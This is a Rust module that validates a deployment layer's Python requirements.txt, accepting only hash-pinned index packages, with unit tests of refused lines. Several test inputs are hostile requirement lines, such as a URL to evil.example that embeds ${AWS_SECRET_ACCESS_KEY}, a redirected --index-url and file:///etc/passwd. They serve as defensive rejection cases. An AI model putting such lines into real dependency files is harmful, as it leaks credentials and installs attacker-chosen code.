//! A layer's `requirements.txt`: what keeps it from meaning something else on another day or another machine, and pip from
//! doing anything but fetching these packages.
//!
//! pip is never given the file itself, but what is understood of it here: a line that both read in a different way, a URL, an
//! option or an environment variable (`${AWS_SECRET_ACCESS_KEY}`) does not reach it.

use std::path::Path;

use super::PackageError;

/// Options that change nothing about what is installed here.
const TAKEN: [&str; 2] = ["--require-hashes", "--only-binary"];

/// The pinned packages of a file, a line each, as pip is given them; `path` is what errors call the file.
///
/// # Errors
///
/// Something is not pinned to the byte, or is not a package of an index.
pub(super) fn locked(path: &Path, text: &str) -> Result<String, PackageError> {
    let mut pinned = String::new();
    let mut unhashed = Vec::new();
    let mut conditional = Vec::new();
    for line in logical_lines(text) {
        if line.starts_with('-') {
            if !TAKEN.iter().any(|option| is_option(&line, option)) {
                return Err(PackageError::RequirementsOption { path: path.to_owned(), line });
            }
            continue;
        }
        let (requirement, options) = line.split_once(" --").unwrap_or((&line, ""));
        let package = format!("`{}`", requirement.split(';').next().unwrap_or(requirement).trim());
        let hashes = hashes(options);
        if options.is_empty() || hashes.as_ref().is_some_and(Vec::is_empty) {
            unhashed.push(package);
            continue;
        }
        if requirement.contains(';') {
            conditional.push(package);
            continue;
        }
        let (Some(hashes), Some(requirement)) = (hashes, exact(requirement)) else {
            return Err(PackageError::NoPackage { path: path.to_owned(), line });
        };
        pinned.push_str(&format!("{requirement} {}\n", hashes.join(" ")));
    }
    if !unhashed.is_empty() {
        return Err(PackageError::Unhashed { path: path.to_owned(), packages: some_of(unhashed) });
    }
    if !conditional.is_empty() {
        return Err(PackageError::Conditional { path: path.to_owned(), packages: some_of(conditional) });
    }
    Ok(pinned)
}

/// `name==version` or `name[extra]==version`; `None` for a URL, a path, a range.
fn exact(requirement: &str) -> Option<String> {
    let (name, version) = requirement.split_once("==")?;
    let (name, extras) = match name.trim().split_once('[') {
        Some((name, extras)) => (name.trim(), Some(extras.strip_suffix(']')?)),
        None => (name.trim(), None),
    };
    let version = version.trim();
    let consists_of = |text: &str, others: &str| {
        text.starts_with(|it: char| it.is_ascii_alphanumeric())
            && text.chars().all(|it| it.is_ascii_alphanumeric() || others.contains(it))
    };
    let is_name = |text: &str| consists_of(text, "-._");
    let are_names = extras.is_none_or(|extras| extras.split(',').all(|extra| is_name(extra.trim())));
    let extras = extras.map(|extras| format!("[{extras}]")).unwrap_or_default();
    (is_name(name) && are_names && consists_of(version, ".!+-_")).then(|| format!("{name}{extras}=={version}"))
}

/// The hashes of a requirement; `None` where there are other options too.
fn hashes(options: &str) -> Option<Vec<String>> {
    let is_hash = |value: &str| {
        value.split_once(':').is_some_and(|(algorithm, digest)| {
            ["sha256", "sha384", "sha512"].contains(&algorithm)
                && !digest.is_empty()
                && digest.chars().all(|it| it.is_ascii_hexdigit())
        })
    };
    let options = options.split_whitespace().map(|option| option.trim_start_matches("--"));
    let hash = |option: &str| {
        let value = option.strip_prefix("hash=").filter(|value| is_hash(value))?;
        Some(format!("--hash={value}"))
    };
    options.map(hash).collect()
}

/// Lines without comments, those that end in `\` joined with the next.
fn logical_lines(text: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut line = String::new();
    for part in text.trim_start_matches('\u{feff}').lines() {
        let part = if part.trim_start().starts_with('#') { "" } else { part.split(" #").next().unwrap_or(part) };
        let continued = part.trim_end().strip_suffix('\\');
        line.push_str(continued.unwrap_or(part).trim());
        line.push(' ');
        if continued.is_none() {
            lines.push(std::mem::take(&mut line));
        }
    }
    lines.push(line);
    lines.into_iter().map(|line| line.trim().to_owned()).filter(|line| !line.is_empty()).collect()
}

/// `-rother.txt`, `-r other.txt`, `--requirement=other.txt` and `--requirement other.txt` are one option.
fn is_option(line: &str, option: &str) -> bool {
    match line.strip_prefix(option) {
        Some(rest) if option.starts_with("--") => rest.is_empty() || rest.starts_with([' ', '=']),
        rest => rest.is_some(),
    }
}

fn some_of(packages: Vec<String>) -> String {
    const SHOWN: usize = 3;
    let more = packages.len().saturating_sub(SHOWN);
    let shown = packages[..packages.len() - more].join(", ");
    if more == 0 { shown } else { format!("{shown} and {more} more") }
}

#[cfg(test)]
mod tests {
    use expect_test::{Expect, expect};

    use super::*;

    fn pinned(text: &str) -> Result<String, PackageError> {
        locked(Path::new("requirements.txt"), text)
    }

    fn check_refused(text: &str, expected: Expect) {
        expected.assert_eq(&pinned(text).unwrap_err().to_string());
    }

    #[test]
    fn a_lock_file_with_a_hash_for_everything_is_taken() {
        let text = "\
            # written by a tool\n\
            --require-hashes\n\
            boto3[crt,http] == 1.44.5 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n    # via -r requirements.in\n\
            six==1.17.0 --hash=sha256:cc  # ; no condition\n";
        expect![[r"
            boto3[crt,http]==1.44.5 --hash=sha256:aa --hash=sha256:bb
            six==1.17.0 --hash=sha256:cc
        "]]
        .assert_eq(&pinned(text).unwrap());
    }

    #[test]
    fn what_is_not_pinned_by_hash_is_named_with_the_way_out() {
        check_refused(
            "boto3==1.44.5\nsix==1.17.0 --hash=sha256:cc\nrequests",
            expect![
                "`requirements.txt` does not pin `boto3==1.44.5`, `requests` by hash, so the layer would depend on the day it is built: write the file with `uv pip compile --generate-hashes requirements.in -o requirements.txt`"
            ],
        );
        check_refused(
            "a\nb\nc\nd\ne",
            expect![
                "`requirements.txt` does not pin `a`, `b`, `c` and 2 more by hash, so the layer would depend on the day it is built: write the file with `uv pip compile --generate-hashes requirements.in -o requirements.txt`"
            ],
        );
    }

    #[test]
    fn a_condition_is_refused_because_pip_judges_it_by_the_wrong_python() {
        check_refused(
            "six==1.17.0 ; python_version < '3.13' --hash=sha256:cc",
            expect![
                "`requirements.txt` takes `six==1.17.0` only under a condition (`;`), which pip judges by the Python that runs it and not by the layer's: lock for the layer alone, without conditions, as `uv pip compile --generate-hashes` does"
            ],
        );
    }

    #[test]
    fn lines_that_point_to_other_files_or_to_building_are_refused() {
        check_refused(
            "-rbase.txt",
            expect![
                "`requirements.txt` has the line `-rbase.txt`: a layer's packages are pinned in this one file, as wheels of the index that pip is set up with (`PIP_INDEX_URL`, `pip.conf`)"
            ],
        );
        check_refused(
            "--constraint=limits.txt",
            expect![
                "`requirements.txt` has the line `--constraint=limits.txt`: a layer's packages are pinned in this one file, as wheels of the index that pip is set up with (`PIP_INDEX_URL`, `pip.conf`)"
            ],
        );
        check_refused(
            "--no-binary :all:",
            expect![
                "`requirements.txt` has the line `--no-binary :all:`: a layer's packages are pinned in this one file, as wheels of the index that pip is set up with (`PIP_INDEX_URL`, `pip.conf`)"
            ],
        );
    }

    #[test]
    fn nothing_but_a_package_of_an_index_reaches_pip() {
        for line in [
            "six @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/six.whl --hash=sha256:aa",
            "six @ file:///etc/passwd --hash=sha256:aa",
            "./six-1.17.0.whl --hash=sha256:aa",
            "https://evil.example/six-1.17.0.tar.gz --hash=sha256:aa",
            "six==1.* --hash=sha256:aa",
            "six>=1,==1.17.0 --hash=sha256:aa",
            "six==${HOME} --hash=sha256:aa",
            "six==1.17.0 --hash=sha256:aa --global-option=build_ext",
            "six==1.17.0 --hash=sha256:aa --index-url=https://evil.example",
            "six==1.17.0 --hash=md5:aa",
            "six==1.17.0\t--index-url https://evil.example --hash=sha256:aa",
            "git+https://evil.example/six@v1 --hash=sha256:aa",
        ] {
            let error = pinned(line).unwrap_err();
            assert!(matches!(error, PackageError::NoPackage { .. }), "{line}: {error}");
        }
        for line in [
            "--index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}",
            "-i https://evil.example",
            "--extra-index-url=https://evil.example",
            "--find-links .",
            "-f .",
            "--trusted-host evil.example",
            "--pre",
            "--editable .",
            "-e .",
            "--no-such-option",
        ] {
            let error = pinned(&format!("six==1.17.0 --hash=sha256:aa\n{line}")).unwrap_err();
            assert!(matches!(error, PackageError::RequirementsOption { .. }), "{line}: {error}");
        }
    }
}
